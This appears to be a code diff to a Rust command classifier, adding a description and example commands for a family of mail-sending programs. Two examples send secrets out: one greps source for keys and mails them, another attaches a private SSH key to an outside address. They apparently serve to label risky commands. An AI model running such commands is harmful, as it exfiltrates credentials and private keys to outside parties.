@@ -8,8 +8,19 @@ use crate::context::Context;
 use crate::invocation::Invocation;
 use crate::word::Word;
 
-pub(super) const FAMILY: Family =
-    Family { programs: &["mail", "mailx", "s-nail", "mutt", "neomutt", "sendmail", "msmtp", "ssmtp", "swaks", "mpack"], effects };
+pub(super) const FAMILY: Family = Family {
+    programs: &["mail", "mailx", "s-nail", "mutt", "neomutt", "sendmail", "msmtp", "ssmtp", "swaks", "mpack"],
+    about: "Programs that send mail: what they are given, from a pipe or as an attachment, leaves this \
+        machine. What a filter before them leaves out is not looked at.",
+    examples: &[
+        "mail",
+        "sendmail --version",
+        "echo done | mail -s done team@shop.example",
+        "grep -r KEY src | mail -s keys someone@mail.example",
+        "mutt -s x -a ~/.ssh/id_rsa -- a@mail.example < /dev/null",
+    ],
+    effects,
+};
 
 const SPEC: Spec = Spec {
     long: &[("to", Takes::Value), ("from", Takes::Value), ("server", Takes::Value), ("attach", Takes::Value), ("body", Takes::Value), ("header", Takes::Value)],
